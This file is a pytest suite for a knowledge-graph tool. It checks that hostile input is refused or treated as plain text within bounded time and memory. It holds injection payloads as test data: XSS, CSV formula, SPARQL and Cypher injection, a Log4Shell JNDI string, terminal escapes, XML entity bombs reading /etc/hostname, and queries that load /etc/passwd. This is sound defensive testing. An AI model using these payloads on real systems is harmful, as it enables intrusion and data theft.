"""Input made to break the tool: it is refused, or taken as plain text, in bounded time and
memory."""

import csv
import io
import os
import tracemalloc
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from functools import partial
from itertools import islice
from pathlib import Path
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner

import kg
from benchmarks.fuzz import TARGETS, mutants
from benchmarks.hostile import READERS, extract_input, name_bodies, read_input
from kg.cli.main import main
from kg.cli.text import describe_claim
from kg.errors import KgError, QueryRefused, ReadError, ResolveError, UnreadableSource
from kg.language.parser import load_language
from kg.model import Document, Entity, Extraction
from kg.namespace import document_iri
from kg.pipeline.documents import extract_document
from kg.reading.decoding import MAX_BYTES
from kg.reading.metadata import read_sidecar
from kg.reading.sources import find_sources, read_bytes, read_each, read_source
from kg.resolution.known_entities import read_known
from kg.storage.store import Store
from tests.builders import make_claim, make_document, make_entity
from tests.work import count_steps

LINEAR = 2.2
"""Input twice as long is at most this much work."""
STEPS_A_WORD = 1_000
"""At most 40 are usual for a sentence of 10,000 words."""

EVIL = (
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "\x1b]0;owned\x07\x1b[2J",
    '"> <script>alert(1)</script>',
    "</graph></graphml><!--",
    "]]>&xxe;",
    '> <urn:a> <urn:b> <urn:c> .\n<urn:x> <urn:y> "',
    '" . } ; DROP ALL ; INSERT DATA { <urn:a> <urn:b> "',
    "a') DETACH DELETE n //",
    "\\u003e",
    "\u202egnp.exe",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "${jndi:ldap://example.org}",
    "%s%n{0}",
)


@contextmanager
def within(megabytes: int) -> Iterator[None]:
    """Assert that the block takes no more memory of Python's."""
    tracemalloc.start()
    try:
        yield
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < megabytes * 1_000_000


def test_a_file_of_a_gigabyte_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "big.txt"
    with path.open("wb") as file:
        file.truncate(1 << 30)
    with within(1), pytest.raises(UnreadableSource, match=f"{MAX_BYTES:,} bytes"):
        read_source(str(path))


@pytest.mark.parametrize(
    "page",
    [
        b"<div>" * 200_000,
        b"<div>" * 1_500 + b"Quillmark paid Tessera." + b"</div>" * 1_500,
        b"<a " + b"x='y' " * 200_000,
        b"<table><tr><td>" * 50_000,
        b"<!--" * 100_000,
        b"&amp;" * 300_000,
        b"<p>" + b"&#9999999;" * 50_000,
        b"<" * 500_000,
        b"<b><i>" * 30_000 + b"x",
        b"<p>word</p>" * 60_000,
    ],
    ids=[
        "depth",
        "below-the-limit",
        "attributes",
        "tables",
        "comments",
        "entities",
        "references",
        "brackets",
        "formatting",
        "paragraphs",
    ],
)
def test_hostile_pages(page: bytes) -> None:
    with suppress(ReadError), within(400):
        read_bytes(b"<html><body><article>" + page + b"</article></body></html>", "a.html")


def test_entity_bombs_do_not_expand() -> None:
    levels = "".join(f'<!ENTITY e{k} "{f"&e{k - 1};" * 10}">' for k in range(1, 10))
    page = (
        '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY e0 "bomb">'
        f'{levels}<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    )
    page += (
        "<html><body><article><p>Quillmark paid Tessera &e9; and &x; "
        "on Friday, says the firm.</p></article></body></html>"
    )
    with within(50):
        text = read_bytes(page.encode(), "a.xhtml").text
    assert len(text) < 1_000
    host = Path("/etc/hostname")
    assert not host.is_file() or host.read_text().strip() not in text


def test_brackets_without_end_are_refused() -> None:
    with within(50), pytest.raises(UnreadableSource, match="10,000 brackets"):
        read_bytes(b"word " + b"![" * 1_000_000, "a.md")


def test_marks_of_emphasis_without_end_are_refused() -> None:
    with within(50), pytest.raises(UnreadableSource, match="10,000 marks"):
        read_bytes(b"word " + b"*a_ " * 30_000, "a.md")


@pytest.mark.parametrize(
    "docket", ["1-" * 1_600 + "!", "1" * 3_200, "1-1" * 1_000 + "é!", "1" + "-" * 3_200]
)
def test_a_docket_is_read_in_time_that_grows_with_its_length(docket: str) -> None:
    with within(5), pytest.raises(ResolveError, match="no docket"):
        read_known(f"name,docket\nCase,{docket}\n", ["Thing"])
    assert read_known("name,docket\nCase,1:23-cv-00456 (ABC)\n", ["Thing"])


@pytest.mark.parametrize(
    "mark", ["> ", "- ", "[", "*", "`", "![", "<", "|a", "\\", "1. ", "    ", "[a](", "**a_"]
)
def test_hostile_markdown(mark: str) -> None:
    with within(400):
        try:
            read_bytes(("word " + mark * 4_000).encode(), "a.md")
            read_bytes((mark * 300 + "word\n\n").encode() * 20, "a.md")
        except ReadError:
            pass


FRONT = (
    "---\na0: &a0 [x, x, x, x, x, x, x, x]\n"
    + "".join(f"a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * 9)}]\n" for k in range(1, 12))
    + "title: *a11\n---\n",
    f"---\na: {'[' * 20_000}\n---\n",
    f"+++\na = {'[' * 20_000}\n+++\n",
    f"+++\n{'a.' * 50_000}b = 1\n+++\n",
)


@pytest.mark.parametrize("front", FRONT, ids=["references", "brackets", "arrays", "dots"])
def test_front_matter_that_makes_work_is_read_by_lines(front: str) -> None:
    """References to references in YAML never ended, brackets were a crash, dots took 30 seconds."""
    (document,) = read_each(f"{front}Tessera paid Harlow.\n".encode(), "a.md")
    assert document.text == "Tessera paid Harlow."
    assert "read line by line" in " ".join(document.notes)


def test_a_sidecar_that_makes_work_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("Tessera paid Harlow.")
    for front in FRONT[:2]:
        (tmp_path / "a.txt.yaml").write_text(front.strip("-\n"))
        with pytest.raises(UnreadableSource, match=r"a\.txt\.yaml"):
            read_sidecar(str(tmp_path / "a.txt"))


def test_cells_that_span_a_million_are_one_each() -> None:
    """Five hundred of them never ended."""
    cells = "<tr><td colspan=999999 rowspan=999999>Tessera paid Harlow.</td></tr>" * 500
    (document,) = read_each(f"<p>Text.</p><table>{cells}</table>".encode(), "a.html")
    assert document.text.count("Tessera paid Harlow.") == 500


def test_a_long_field_of_a_mail_is_kept_and_not_parsed() -> None:
    recipients = ", ".join(f"r{k}@example.org" for k in range(2_000))
    quotes = '"\\"' * 40_000
    mail = f"From: {quotes}\nTo: {recipients}\nSubject: x\n\nTessera paid Harlow.\n"
    (document,) = read_each(mail.encode(), "a.eml")
    assert f"To: {recipients}" in document.text and quotes in document.text


def test_unseen_parts_of_a_mail_are_no_text() -> None:
    page = "<head><title>x</title></head><STYLE>p {}</Style ><p>Tessera<script>a</style>b</script>"
    mail = f"Content-Type: text/html\n\n{page} paid Harlow.<style>open"
    (document,) = read_each(mail.encode(), "a.eml")
    assert " ".join(document.text.split()) == "Tessera paid Harlow.open"


def test_names_are_compared_with_those_that_they_may_stand_for_alone() -> None:
    """160 KB of associations took more than two minutes: each name was compared with each."""
    few, many = (
        count_steps(partial(extract_input(name_bodies), size)) for size in (10_000, 20_000)
    )
    assert many < LINEAR * few


@pytest.mark.parametrize(
    "joint",
    [" and Harlow paid Tessera", ", which Harlow, who said that", " of the board", " Quillmark"],
)
def test_a_sentence_of_ten_thousand_words(joint: str) -> None:
    text = "Quillmark said that Harlow paid Tessera" + joint * (10_000 // len(joint.split())) + "."
    document = Document(document_iri("a.txt", text), "a.txt", text)
    found: list[Extraction] = []
    steps = count_steps(lambda: found.append(extract_document(document)))
    assert steps < 10_000 * STEPS_A_WORD
    assert all(text[c.start : c.end] == c.quote for c in found[0].claims)


@pytest.mark.parametrize("mark", ["(", ")\"'", "\u00a3", "\u2026", "'s"])
def test_a_run_of_marks_is_read_in_time_that_grows_with_its_length(mark: str) -> None:
    """spaCy's own searches for affixes took 40 seconds for one run of 16,000 brackets."""
    tokenizer, text = load_language().tokenizer, mark * (16_000 // len(mark))
    half = count_steps(lambda: tokenizer(text[:8_000]))
    assert count_steps(lambda: tokenizer(text)) < half * LINEAR
    assert tokenizer(text).text == text


@pytest.mark.parametrize("name", READERS)
def test_the_work_of_each_reader_grows_with_the_input(name: str) -> None:
    source, size, make = READERS[name]
    run = read_input(source, make)
    run(size // 64)  # what is loaded once is no work of the input
    half = count_steps(lambda: run(size // 16))
    assert count_steps(lambda: run(size // 8)) < half * LINEAR


def test_many_tiny_files_and_odd_names(tmp_path: Path) -> None:
    for k in range(3_000):
        (tmp_path / f"{k}.txt").touch()
    odd = [
        "-rf.txt",
        "a\nb.txt",
        " .txt",
        "ü.txt",
        "'\"$(x).txt",
        "*.txt",
        os.fsdecode(b"\xff.txt"),
        "\x1b[31m.txt",
    ]
    for name in odd:
        (tmp_path / name).write_text("Larkfield Motors sued Harlow.", "utf-8")
    (tmp_path / "loop").symlink_to(tmp_path)
    (tmp_path / "self.txt").symlink_to(tmp_path / "self.txt")
    (tmp_path / "nowhere.txt").symlink_to(tmp_path / "missing" / "..")
    os.mkfifo(tmp_path / "pipe.txt")
    assert len(find_sources([str(tmp_path)])) == 3_000 + len(odd)
    runner = CliRunner(env={"KG_STORE": str(tmp_path / "kg.store")})
    result = runner.invoke(main, ["add", *(str(tmp_path / name) for name in odd)])
    assert (
        result.exit_code in (0, 1)
        and result.exception is None
        or isinstance(result.exception, SystemExit)
    )
    assert "\x1b" not in result.stdout + result.stderr
    listed = kg.open(tmp_path / "kg.store", read_only=True).documents()
    assert len(listed) >= len(odd) - 1  # a name that is no text cannot be kept


def evil_store(evil: str) -> Store:
    """Every field that comes from a source holds *evil*."""
    text = f"{evil} paid {evil} now."
    document = make_document(
        f"{evil}.txt", text, title=evil, authors=(evil,), publisher=evil, url=evil
    )
    subject, object_ = (
        Entity(make_entity(evil).id, evil, "Person", (evil + "!",)),
        make_entity(evil + " Inc"),
    )
    claim = make_claim(document, subject, "rel:pay", object_, text, reason=evil)
    store = Store.open()
    store.add(Extraction(document, tuple(sorted((subject, object_), key=lambda e: e.id)), (claim,)))
    store.add(Extraction(document, tuple(sorted((subject, object_), key=lambda e: e.id)), ()))
    store.add(
        Extraction(document, tuple(sorted((subject, object_), key=lambda e: e.id)), (claim,))
    )  # through an update
    return store


@pytest.mark.parametrize("evil", EVIL)
def test_text_never_becomes_syntax(evil: str, tmp_path: Path) -> None:
    graph = kg.Graph(evil_store(evil))
    (claim,) = graph.claims()
    assert claim.subject.label == evil and claim.quote == f"{evil} paid {evil} now."
    assert len(graph.documents()) == 1
    shown = describe_claim(claim, "a.txt")
    assert not {"\x1b", "\x07", "\u202e"} & set(shown)
    for suffix in ("graphml", "gexf"):
        tree = ElementTree.fromstring(graph.export(tmp_path / f"a.{suffix}").read_text("utf-8"))
        assert sum(e.tag.endswith("}edge") for e in tree.iter()) == 1
        assert not any(e.tag.endswith("script") for e in tree.iter())
    text = graph.export(tmp_path / "a.csv").read_text("utf-8")
    head, row = csv.reader(io.StringIO(text, newline=""))
    assert len(row) == len(head)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    table = graph.query("SELECT ?l { ?e skos:prefLabel ?l }").to_csv()
    assert not any(
        cell[:1] in "=+-@\t\r" for (cell,) in csv.reader(io.StringIO(table, newline="")) if cell
    )
    page = graph.view().html
    assert "<script>alert(1)" not in page and "\x1b]" not in page
    again = kg.open()
    again.load(graph.export(tmp_path / "a.nq"))
    assert list(again.store.nquads()) == list(graph.store.nquads())


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * { SERVICE <http://127.0.0.1:9> { ?s ?p ?o } }",
        "SELECT * { SERVICE SILENT ?x { ?s ?p ?o } }",
        "LOAD <file:///etc/passwd>",
        "# c\nLOAD <http://127.0.0.1:9>",
        "PREFIX a: <urn:a> LOAD <http://127.0.0.1:9>",
        "SELECT * { { SeRvIcE<http://127.0.0.1:9> {} } }",
        "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
        "BASE <urn:x> CLEAR ALL",
        "SELECT * {} ; DROP ALL",
        "SELECT * { GRAPH ?g { SERVICE <http://127.0.0.1:9> { ?s ?p '#' } } }",
    ],
)
def test_no_query_writes_or_reaches_out(query: str) -> None:
    store = evil_store("x")
    before = list(store.nquads())
    with pytest.raises(KgError) as caught:
        kg.Graph(store).query(query)
    assert isinstance(caught.value, QueryRefused) or "line 1" in str(caught.value)
    assert list(store.nquads()) == before


def test_hidden_service_is_refused() -> None:
    for text in (
        "SELECT * { ?s ?p '''a''b''' . SERVICE <http://127.0.0.1:9> {} }",
        'SELECT * { ?s ?p "\\"" . SERVICE <urn:x> {} }',
    ):
        with pytest.raises(QueryRefused):
            kg.open().query(text)


@pytest.mark.parametrize("target", sorted(TARGETS))
def test_fuzz_shortly(target: str) -> None:
    for data in islice(mutants(target), 200):
        TARGETS[target](data)
